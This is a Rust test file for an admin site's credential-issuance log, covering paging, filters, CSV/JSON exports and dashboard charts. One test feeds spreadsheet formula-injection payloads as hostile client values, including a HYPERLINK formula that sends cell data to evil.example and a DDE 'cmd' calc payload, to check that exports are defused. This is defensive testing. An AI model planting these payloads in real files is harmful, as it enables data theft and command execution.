//! The issuance log page: filters, keyset pages, streamed CSV and JSON exports; and the
//! dashboard's totals.

use policy_store::{IssuanceRecord, IssuanceStore, Outcome};
use time::{Duration, OffsetDateTime};

use crate::support::*;

fn record(i: usize, now: OffsetDateTime) -> IssuanceRecord {
    let outcome = match i % 10 {
        0 => Outcome::Denied,
        1 => Outcome::Cached,
        2 => Outcome::RateLimited,
        _ => Outcome::Issued,
    };
    let issued = matches!(outcome, Outcome::Issued | Outcome::Cached);
    IssuanceRecord {
        id: 0,
        at: now - Duration::seconds(i as i64),
        app: if i.is_multiple_of(4) {
            "other".into()
        } else {
            APP.into()
        },
        subject: Some(format!("user{}", i % 7)),
        outcome,
        http_status: if issued { 200 } else { 403 },
        error_code: (!issued).then(|| "subject_blocked".into()),
        request_id: format!("req-{i:05}"),
        sts_request_id: issued.then(|| format!("sts-{i}")),
        tmp_secret_id: issued.then(|| format!("AKIDtmp{i:05}")),
        policy_hash: None,
        template_version: Some(1),
        actions: vec!["name/cos:PutObject".into()],
        prefix: Some(format!("users/user{}/", i % 7)),
        duration_seconds: Some(1800),
        expired_time: issued.then(|| now + Duration::minutes(30)),
        source_ip: Some(format!("10.0.{}.{}", i % 3, i % 250)),
        user_agent: Some("okhttp/4, \"quoted\"".into()),
        latency_us: (i as i64 % 100) * 1000,
        count: 1,
    }
}

#[tokio::test]
async fn log_search_pages_and_exports() {
    let t = TestAdmin::start().await;
    let now = OffsetDateTime::now_utc() - Duration::seconds(5);
    let rows: Vec<IssuanceRecord> = (0..2600).map(|i| record(i, now)).collect();
    for chunk in rows.chunks(500) {
        t.store.insert_issuance_batch(chunk).await.unwrap();
    }
    let expected: Vec<&IssuanceRecord> = rows
        .iter()
        .filter(|r| r.app == APP && r.subject.as_deref() == Some("user3"))
        .collect();
    let auditor = t.auditor().await;

    // Page through one filter, newest first, 50 a page, no row twice or missing.
    let mut url = format!("/log?app={APP}&subject=user3");
    let mut seen = Vec::new();
    let mut pages = 0;
    loop {
        let page = auditor.get(&url).await;
        assert_eq!(page.status, 200);
        pages += 1;
        for part in page.body.split("request <span class=\"mono\">").skip(1) {
            seen.push(part.split('<').next().unwrap().to_owned());
        }
        match page.body.split("href=\"").find_map(|s| {
            let link = s.split('"').next().unwrap();
            link.contains("before=").then(|| link.replace("&#38;", "&"))
        }) {
            Some(next) if page.body.contains("rel=\"next\"") => {
                assert_eq!(
                    page.body.contains("« Newest"),
                    pages > 1,
                    "a way back from later pages"
                );
                url = next;
            }
            _ => break,
        }
    }
    let want: Vec<String> = expected.iter().map(|r| r.request_id.clone()).collect();
    assert_eq!(seen, want);
    assert!(pages >= 6, "{pages} pages");

    // Each filter narrows.
    let page = auditor
        .get("/log?outcome=rate_limited&ip=10.0.2.0%2F24")
        .await;
    let n = page.body.matches("o-rate_limited\">rate_limited").count();
    assert!(n > 0 && n <= 50);
    assert!(!page.body.contains("o-issued\">issued"));
    let page = auditor.get("/log?tmp_secret_id=AKIDtmp00005").await;
    assert_eq!(page.body.matches("request <span").count(), 1);
    assert!(page.body.contains("req-00005"));
    let from = (now - Duration::seconds(10))
        .format(&time::format_description::well_known::Rfc3339)
        .unwrap();
    let page = auditor
        .get(&format!(
            "/log?from={}",
            from.replace(':', "%3A").replace('+', "%2B")
        ))
        .await;
    assert_eq!(
        page.body.matches("request <span").count(),
        11,
        "the last 10 seconds"
    );
    let page = auditor.get("/log?ip=not-an-ip&from=soon").await;
    assert!(page.body.contains("a date and time"));
    let page = auditor.get("/log?ip=not-an-ip").await;
    assert!(
        page.body
            .contains("Source IP: enter an IP address or a CIDR block")
    );

    // Exports of the current filter, all pages of it, streamed.
    let csv = auditor
        .get(&format!("/log/export.csv?app={APP}&subject=user3"))
        .await;
    assert_eq!(csv.status, 200);
    assert!(csv.header("content-type").starts_with("text/csv"));
    assert!(
        csv.header("content-disposition")
            .starts_with("attachment; filename=\"issuance-log-")
    );
    assert!(
        csv.headers.get("content-length").is_none(),
        "streamed, not built whole"
    );
    let lines: Vec<&str> = csv.body.lines().collect();
    assert!(lines[0].starts_with("\"id\",\"at\",\"app\",\"subject\",\"outcome\""));
    assert_eq!(lines.len(), want.len() + 1);
    assert!(lines[1].contains(&want[0]));
    assert!(lines[1].contains("\"okhttp/4, \"\"quoted\"\"\""));
    // More rows than one export batch (1000): every one of them, once.
    let all = auditor.get("/log/export.csv").await;
    assert_eq!(all.body.lines().count(), 2601);
    let json = auditor.get("/log/export.json?outcome=denied").await;
    assert_eq!(json.status, 200);
    let parsed: serde_json::Value = serde_json::from_str(&json.body).unwrap();
    let arr = parsed.as_array().unwrap();
    assert_eq!(arr.len(), 260);
    assert!(arr.iter().all(|r| r["outcome"] == "denied"));
    assert_eq!(arr[0]["request_id"], "req-00000");
    let empty = auditor.get("/log/export.json?subject=nobody").await;
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&empty.body).unwrap(),
        serde_json::json!([])
    );
    let bad = auditor.get("/log/export.csv?ip=10.0.0.0%2F99").await;
    assert_eq!(bad.status, 400);

    // The dashboard counts the last 24 hours per app.
    let dash = auditor.get("/").await;
    assert!(dash.body.contains(">2600<"), "total requests");
    assert!(dash.body.contains("other"), "a logged slug without an app");
}

/// Values a client controls (User-Agent, the token's subject) that a spreadsheet would split
/// or run: separators of every locale, quotes, line breaks, formula starts.
const HOSTILE: &[&str] = &[
    "Mozilla/5.0;=HYPERLINK(A1);=1+1;",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
    "curl|=cmd|' /C calc'!A0",
    "a,=1+1,b",
    "say \"hi\", then ;=2+2",
    "two\nlines\r\n=3+3",
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "'already guarded",
    "",
];

const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

#[tokio::test]
async fn csv_export_quotes_every_cell_and_defuses_formulas() {
    let t = TestAdmin::start().await;
    let now = OffsetDateTime::now_utc() - Duration::seconds(5);
    let rows: Vec<IssuanceRecord> = HOSTILE
        .iter()
        .enumerate()
        .map(|(i, value)| IssuanceRecord {
            subject: Some(format!("{}{value}", if i % 2 == 0 { "" } else { "u;" })),
            user_agent: Some((*value).to_owned()),
            request_id: format!("req-{i:05}"),
            // One folded summary row, standing for 37 refused requests.
            count: if i == 3 { 37 } else { 1 },
            ..record(5, now - Duration::seconds(i as i64))
        })
        .collect();
    t.store.insert_issuance_batch(&rows).await.unwrap();
    let auditor = t.auditor().await;
    let csv = auditor.get(&format!("/log/export.csv?app={APP}")).await;
    assert_eq!(csv.status, 200);

    // A real CSV parser reads back every field exactly (a formula start behind its `'`).
    let mut reader = csv::ReaderBuilder::new().from_reader(csv.body.as_bytes());
    let header = reader.headers().unwrap().clone();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), rows.len());
    let unguard = |field: &str, want: &str| -> String {
        if want.starts_with(FORMULA_START) {
            assert!(
                field.starts_with('\''),
                "{want:?} exported unguarded: {field:?}"
            );
            field[1..].to_owned()
        } else {
            field.to_owned()
        }
    };
    for (rec, want) in records.iter().zip(&rows) {
        assert_eq!(rec.len(), header.len(), "one field per column");
        assert_eq!(&rec[col("request_id")], want.request_id);
        assert_eq!(&rec[col("app")], want.app);
        assert_eq!(&rec[col("outcome")], want.outcome.as_str());
        assert_eq!(&rec[col("source_ip")], want.source_ip.as_deref().unwrap());
        assert_eq!(&rec[col("latency_us")], want.latency_us.to_string());
        assert_eq!(&rec[col("count")], want.count.to_string());
        let subject = want.subject.as_deref().unwrap();
        assert_eq!(unguard(&rec[col("subject")], subject), subject);
        let ua = want.user_agent.as_deref().unwrap();
        assert_eq!(unguard(&rec[col("user_agent")], ua), ua);
        for field in rec.iter() {
            assert!(
                !field.starts_with(FORMULA_START),
                "a field a spreadsheet would run: {field:?}"
            );
        }
    }

    // Every cell is quoted (RFC 4180), the header too: written back with every field quoted,
    // the parsed file is byte for byte what was served.
    let mut writer = csv::WriterBuilder::new()
        .quote_style(csv::QuoteStyle::Always)
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::new());
    writer.write_record(&header).unwrap();
    for rec in &records {
        writer.write_record(rec).unwrap();
    }
    let requoted = String::from_utf8(writer.into_inner().unwrap()).unwrap();
    assert_eq!(csv.body, requoted);
    assert!(
        csv.body.contains("\"Mozilla/5.0;=HYPERLINK(A1);=1+1;\""),
        "a `;` never ends a cell"
    );

    // The page says how many requests the folded row stands for, and only for that row.
    let page = auditor.get(&format!("/log?app={APP}")).await;
    assert_eq!(
        page.body.matches("class=\"folded\"").count(),
        1,
        "{}",
        page.body
    );
    assert!(page.body.contains(">× 37</span>"));
}

/// The dashboard's charts and busiest lists: complete hours from the rollup, the current hour
/// live, windows longer than a day from the rollup too.
#[tokio::test]
async fn dashboard_charts_come_from_the_rollup_and_the_live_hour() {
    let t = TestAdmin::start().await;
    let now = OffsetDateTime::now_utc();
    let hour = policy_store::hour_start(now);
    let at = |h: i64, outcome, subject: &str, ip: &str, n: usize, latency_us| {
        (0..n)
            .map(|i| IssuanceRecord {
                outcome,
                subject: Some(subject.into()),
                source_ip: Some(ip.into()),
                latency_us,
                request_id: format!("req-{h}-{subject}-{i}"),
                // record(0, t) logs at t itself: inside the hour, never after now.
                ..record(
                    0,
                    (hour - Duration::hours(h) + Duration::seconds(i as i64)).min(now),
                )
            })
            .collect::<Vec<_>>()
    };
    let mut rows = at(2, Outcome::Issued, "alice", "203.0.113.7", 5, 40_000);
    rows.extend(at(1, Outcome::Cached, "alice", "203.0.113.7", 3, 300));
    rows.extend(at(0, Outcome::Denied, "mallory", "198.51.100.66", 2, 200));
    for r in &mut rows {
        r.http_status = if r.outcome == Outcome::Denied {
            403
        } else {
            200
        };
    }
    // Three days ago: in the 7-day window only.
    rows.extend(at(72, Outcome::Issued, "carol", "192.0.2.1", 4, 30_000));
    t.store.insert_issuance_batch(&rows).await.unwrap();
    t.store.refresh_rollup(now).await.unwrap();

    let auditor = t.auditor().await;
    let page = auditor.get("/").await;
    assert_eq!(page.status, 200);
    let body = &page.body;
    // Requests stacked by outcome, one segment per (hour, outcome).
    assert_eq!(
        body.matches("<rect class=\"c-issued\"").count(),
        1,
        "{body}"
    );
    assert_eq!(body.matches("<rect class=\"c-cached\"").count(), 1);
    assert_eq!(body.matches("<rect class=\"c-denied\"").count(), 1);
    assert!(body.contains(": 5 issued</title>"));
    assert!(body.contains("aria-label=\"10 credential requests in the last 24 hours"));
    // Issuance latency: one hour of misses, a dot at p50 and p95 (40 ms, within 10% above).
    assert_eq!(body.matches("<circle class=\"dot l-p50\"").count(), 1);
    assert!(body.contains("the highest p95 is 4"), "{body}");
    // Hit ratio: 3 of 8 credentials from the cache.
    assert!(body.contains("38% over 24 hours"));
    // The busiest lists link to the log, the live hour included.
    assert!(body.contains("href=\"/log?subject=alice\""));
    assert!(body.contains("href=\"/log?subject=mallory\""));
    assert!(body.contains("href=\"/log?ip=198.51.100.66\""));
    assert!(!body.contains("carol"), "outside 24 h");
    assert!(body.contains("last refreshed"));

    // Seven days: carol's hour comes from the rollup; the charts still cover 24 hours.
    let week = auditor.get("/?window=7d").await.body;
    assert!(week.contains("href=\"/log?subject=carol\""));
    assert_eq!(week.matches("<rect class=\"c-issued\"").count(), 1);
    assert!(week.contains(">14<"), "14 requests in the totals");
}
